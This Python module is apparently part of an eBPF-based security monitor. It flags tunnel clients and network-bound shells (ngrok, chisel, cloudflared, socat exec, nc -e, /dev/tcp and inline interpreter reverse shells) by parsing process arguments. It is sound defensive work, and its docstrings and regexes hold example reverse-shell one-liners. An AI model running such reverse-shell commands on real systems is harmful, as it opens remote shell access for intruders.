"""`tunnel.other`: tunnel clients other than ssh, and shells wired to the network.

Each tool has a small classifier over its argv, keyed by the rule param that lists the
program names it applies to (so users can add a renamed or vendored copy):

* exposing a local service to the outside: chisel clients with `R:` remotes, frpc, ngrok
  (`http`/`tcp`/`tls`/`start`), cloudflared tunnels (`tunnel [run]`, quick `--url` tunnels,
  `service install`), bore `local`, localtunnel `lt --port`, VS Code's `code tunnel`;
* a shell or program on a socket (severity critical): socat with an `exec:`/`system:` address
  and a network address, nc/ncat `-e`, `-c`, `--exec`, `--sh-exec`, `--lua-exec`,
  `/dev/tcp` reverse shells in shell `-c` strings, and inline interpreter reverse shells.

Not alerts: local and dynamic forwards (`chisel client` with only local remotes,
`kubectl port-forward`, sshuttle), servers (`chisel server`, `bore server`), and management
commands (`cloudflared tunnel list`, `ngrok config ...`, `code tunnel status`).
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from typing import Callable, Iterable, Optional, Sequence

from ebpfguard.detect.execinfo import (
    basename, exec_succeeded, first_positional, program_and_args,
)
from ebpfguard.detect.registry import Detector, Event, Finding, RuleContext, detector

CRITICAL = "critical"


@dataclass(frozen=True)
class TunnelMatch:
    """Why an argv is a tunnel: the tool, how it tunnels, and the arguments that say so."""

    tool: str
    technique: str  # expose_service, reverse_forward, exec_to_network, shell_redirect, ...
    detail: str
    severity: Optional[str] = None


def first_word(args: Sequence[str], vocabulary: Iterable[str]) -> Optional[int]:
    """Index of the first argument that is one of a CLI's subcommand words."""
    words = set(vocabulary)
    return next((i for i, a in enumerate(args) if a in words), None)


def chisel(args: Sequence[str]) -> Optional[TunnelMatch]:
    """`chisel client <server> R:...`: a reverse remote makes the server listen for us."""
    if first_positional(args) != "client":
        return None
    reverse = [a for a in args if a.startswith("R:")]
    return TunnelMatch("chisel", "reverse_forward", " ".join(reverse)) if reverse else None


def frpc(args: Sequence[str]) -> Optional[TunnelMatch]:
    """frpc exists to expose local services through an frps server; any run but checks."""
    if {"-v", "--version", "-h", "--help"} & set(args):
        return None
    if first_positional(args) in ("verify", "help", "completion"):
        return None
    return TunnelMatch("frpc", "expose_service", " ".join(args))


NGROK_TUNNELS = ("http", "tcp", "tls", "start", "tunnel")
NGROK_OTHER = ("config", "version", "help", "update", "diagnose", "api", "credits",
               "completion", "service")


def ngrok(args: Sequence[str]) -> Optional[TunnelMatch]:
    """`ngrok http 80`, `ngrok tcp 22`, `ngrok start --all`: a public endpoint to us."""
    i = first_word(args, NGROK_TUNNELS + NGROK_OTHER)
    if i is None or args[i] not in NGROK_TUNNELS:
        return None
    return TunnelMatch("ngrok", "expose_service", " ".join(args[i:]))


CLOUDFLARED_COMMANDS = ("tunnel", "access", "proxy-dns", "service", "update", "version",
                        "login", "help", "tail", "management")
CLOUDFLARED_TUNNEL_MANAGEMENT = ("login", "create", "route", "list", "info", "delete",
                                 "cleanup", "token", "vnet", "ingress", "diag", "help")


def cloudflared(args: Sequence[str]) -> Optional[TunnelMatch]:
    """`cloudflared tunnel [run]`, quick tunnels (`--url`), `service install <token>`."""
    i = first_word(args, CLOUDFLARED_COMMANDS)
    if i is None:
        # The legacy form runs a tunnel with no command: `cloudflared --url localhost:80`.
        legacy = any(a.split("=", 1)[0] in ("--url", "--hello-world", "--token") for a in args)
        return TunnelMatch("cloudflared", "expose_service", " ".join(args)) if legacy else None
    rest = args[i + 1:]
    if args[i] == "service" and first_positional(rest) == "install":
        return TunnelMatch("cloudflared", "expose_service", "service install")
    if args[i] != "tunnel":
        return None
    j = first_word(rest, CLOUDFLARED_TUNNEL_MANAGEMENT + ("run",))
    if j is not None and rest[j] != "run":
        return None
    return TunnelMatch("cloudflared", "expose_service", " ".join(args[i:]))


def bore(args: Sequence[str]) -> Optional[TunnelMatch]:
    """`bore local 8000 --to bore.pub`."""
    if first_positional(args) != "local":
        return None
    return TunnelMatch("bore", "expose_service", " ".join(args))


def localtunnel(args: Sequence[str]) -> Optional[TunnelMatch]:
    """`lt --port 8000`: localtunnel needs the port of the service it exposes."""
    if not any(a in ("-p", "--port") or a.startswith("--port=") for a in args):
        return None
    return TunnelMatch("localtunnel", "expose_service", " ".join(args))


VSCODE_TUNNEL_OTHER = ("user", "status", "kill", "restart", "rename", "unregister", "prune",
                       "help")


def vscode_tunnel(args: Sequence[str]) -> Optional[TunnelMatch]:
    """`code tunnel` (and `code tunnel service install`) serves this machine to vscode.dev."""
    if first_positional(args) != "tunnel":
        return None
    rest = args[args.index("tunnel") + 1:]
    sub = first_word(rest, VSCODE_TUNNEL_OTHER + ("service",))
    if sub is not None and not (rest[sub] == "service" and "install" in rest[sub + 1:]):
        return None
    return TunnelMatch("code", "expose_service", " ".join(["tunnel", *rest]))


SOCAT_EXEC = re.compile(r"(exec|system)$")
SOCAT_NETWORK = re.compile(
    r"((tcp|udp|sctp|dccp|udplite)[46]?(-connect|-listen|-l|-sendto|-datagram|-recvfrom)?"
    r"|(openssl|ssl)(-connect|-listen|-l)?|socks[45]?a?(-connect)?|proxy(-connect)?"
    r"|vsock(-connect|-listen|-l))$"
)


def socat(args: Sequence[str]) -> Optional[TunnelMatch]:
    """socat joining an `exec:`/`system:` address to a network address (either side)."""
    addresses = [a for a in args if not a.startswith("-")]

    def kind(address: str) -> str:
        return re.split(r"[:,]", address, 1)[0].lower()

    program = [a for a in addresses if SOCAT_EXEC.match(kind(a))]
    network = [a for a in addresses if SOCAT_NETWORK.match(kind(a))]
    if not (program and network):
        return None
    return TunnelMatch("socat", "exec_to_network", f"{program[0]} <-> {network[0]}", CRITICAL)


NETCAT_EXEC_LONG = ("--exec", "--sh-exec", "--lua-exec")
NETCAT_EXEC_SHORT = "ec"
# Short options that take a value in traditional nc, OpenBSD nc or ncat: the rest of the
# argument is that value, not more flags.
NETCAT_WITH_VALUE = "pswigGmoxXdIOTVMqP"


def netcat(args: Sequence[str]) -> Optional[TunnelMatch]:
    """nc/ncat running a program on the connection: `-e prog`, `-c cmd`, `--exec`, ..."""
    for i, arg in enumerate(args):
        following = args[i + 1] if i + 1 < len(args) else ""
        option = arg.split("=", 1)[0]
        if option in NETCAT_EXEC_LONG:
            value = arg.split("=", 1)[1] if "=" in arg else following
            return TunnelMatch("netcat", "exec_to_network", f"{option} {value}", CRITICAL)
        if not arg.startswith("-") or arg.startswith("--"):
            continue
        for j, letter in enumerate(arg[1:], 1):
            if letter in NETCAT_EXEC_SHORT:
                value = arg[j + 1:] or following
                return TunnelMatch("netcat", "exec_to_network", f"-{letter} {value}", CRITICAL)
            if letter in NETCAT_WITH_VALUE:
                break
    return None


DEV_TCP = re.compile(r"/dev/(tcp|udp)/[^/\s]+/\d+")
# What makes a /dev/tcp redirect a shell rather than a port check (`</dev/tcp/db/5432`) or a
# hand-made HTTP request: an interactive shell, stdin taken from the socket, or a loop that
# runs what it reads.
SHELL_ON_SOCKET = re.compile(
    r"\b\w*sh\s+-i\b|\b0\s*[<>]&\s*\d|\b0<&|\bdo\s+\$\w+|\|\s*(/bin/)?\w*sh\b"
)


def shell_redirect(args: Sequence[str]) -> Optional[TunnelMatch]:
    """`bash -c 'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1'` and its variants."""
    script = " ".join(args)
    target = DEV_TCP.search(script)
    if target is None or not SHELL_ON_SOCKET.search(script):
        return None
    return TunnelMatch("shell", "shell_redirect", target.group(0), CRITICAL)


INLINE_SOCKET = re.compile(r"socket|fsockopen|TCPSocket|net\.connect", re.IGNORECASE)
INLINE_DUP = re.compile(r"dup2|pty\.spawn|<&\s*\d|>&\s*\d|open\s*\(\s*STDIN|\.pipe\(")
INLINE_SHELL = re.compile(r"/bin/(ba|z|k|da)?sh\b|[\"'](ba)?sh[\"']|\bsh\s+-i\b|cmd\.exe")


def inline_reverse_shell(args: Sequence[str]) -> Optional[TunnelMatch]:
    """`python -c 'import socket,os,pty;...os.dup2(...);pty.spawn("/bin/sh")'` and kin."""
    code = " ".join(args)
    if not (INLINE_SOCKET.search(code) and INLINE_DUP.search(code)
            and INLINE_SHELL.search(code)):
        return None
    return TunnelMatch("interpreter", "inline_reverse_shell", code[:200], CRITICAL)


# Rule param (a list of program names) -> the classifier for those programs.
CLASSIFIERS: dict[str, Callable[[Sequence[str]], Optional[TunnelMatch]]] = {
    "chisel": chisel, "frpc": frpc, "ngrok": ngrok, "cloudflared": cloudflared,
    "bore": bore, "localtunnel": localtunnel, "vscode": vscode_tunnel, "socat": socat,
    "netcat": netcat, "shells": shell_redirect, "interpreters": inline_reverse_shell,
}


def program_key(name: str) -> str:
    """`python3.11` -> `python`, `node18` -> `node`: interpreters carry versions in names."""
    return re.sub(r"[\d.]+$", "", name) or name


@detector("tunnel.other", kinds=("exec",))
class OtherTunnel(Detector):
    """Non-ssh tunnel clients and shells connected to the network."""

    def __init__(self, ctx: RuleContext) -> None:
        super().__init__(ctx)
        self.classifier_of = {name: CLASSIFIERS[param] for param in CLASSIFIERS
                              for name in ctx.params.get(param, ())}
        self.runners = frozenset(ctx.params.get("runners", ()))

    def on_event(self, event: Event) -> Iterable[Finding]:
        if not exec_succeeded(event):
            return []
        name, args = program_and_args(event)
        if name in self.runners:
            name, args = self.unwrap_runner(name, args)
        classify = self.classifier_of.get(name) or self.classifier_of.get(program_key(name))
        match = classify(args) if classify else None
        if match is None:
            return []
        return [Finding(
            summary=f"{name}: {match.technique.replace('_', ' ')} ({match.detail[:120]})",
            evidence={"tool": match.tool, "program": name, "technique": match.technique,
                      "detail": match.detail},
            severity=match.severity,
        )]

    def unwrap_runner(self, name: str, args: list[str]) -> tuple[str, list[str]]:
        """`npx localtunnel --port 80`, `node .../bin/lt.js --port 80` -> the tool's argv."""
        script = first_positional(args)
        if script is None:
            return name, args
        tool = basename(script).removesuffix(".js")
        if tool not in self.classifier_of:
            return name, args
        return tool, args[args.index(script) + 1:]
